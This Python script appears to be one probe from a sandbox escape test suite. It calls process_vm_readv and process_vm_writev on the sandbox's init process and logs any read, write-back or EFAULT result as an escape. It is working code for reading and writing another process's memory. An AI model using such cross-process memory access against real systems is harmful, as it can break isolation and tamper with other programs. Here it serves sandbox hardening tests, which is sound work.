"""Read and write forkbox-init's memory with process_vm_readv/process_vm_writev (EFAULT would mean the access check passed)."""
import ctypes
import errno
import sys

from _attack import ESCAPES, NOTES, en, finish, init_pids, libc, sysc  # noqa: F401

SYS_process_vm_readv, SYS_process_vm_writev = 310, 311


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def main():
    pids = init_pids()
    if not pids:
        print("ERROR: no forkbox-init process visible")
        sys.exit(2)
    buf = ctypes.create_string_buffer(16)
    local = IOVec(ctypes.addressof(buf), 16)
    for pid in pids:
        for addr in (0x400000, 0x401000, 0x7fff00000000, 0x1000):
            remote = IOVec(addr, 16)
            r, e = sysc(SYS_process_vm_readv, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if r > 0:
                ESCAPES.append("read %d bytes of init pid %d at %#x: %r" % (r, pid, addr, buf.raw[:r]))
                # write the same bytes back: proves write access without a change
                w, e2 = sysc(SYS_process_vm_writev, pid, ctypes.byref(IOVec(ctypes.addressof(buf), r)), 1,
                             ctypes.byref(IOVec(addr, r)), 1, 0)
                if w > 0:
                    ESCAPES.append("wrote %d bytes into init pid %d" % (w, pid))
                break
            if e in (errno.EFAULT, errno.ENOMEM):
                ESCAPES.append("process_vm_readv on init pid %d passed the access check (%s at %#x)" % (pid, en(e), addr))
                break
        else:
            NOTES.append("process_vm_readv(init pid %d): %s" % (pid, en(e)))
        # writev at an unmapped address: EFAULT here would also mean access was granted
        zero = ctypes.create_string_buffer(8)
        w, e = sysc(SYS_process_vm_writev, pid, ctypes.byref(IOVec(ctypes.addressof(zero), 8)), 1,
                    ctypes.byref(IOVec(0x10, 8)), 1, 0)
        if w >= 0 or e in (errno.EFAULT, errno.ENOMEM):
            ESCAPES.append("process_vm_writev on init pid %d passed the access check (%s)" % (pid, "ok" if w >= 0 else en(e)))
        else:
            NOTES.append("process_vm_writev(init pid %d): %s" % (pid, en(e)))


if __name__ == "__main__":
    finish(main)
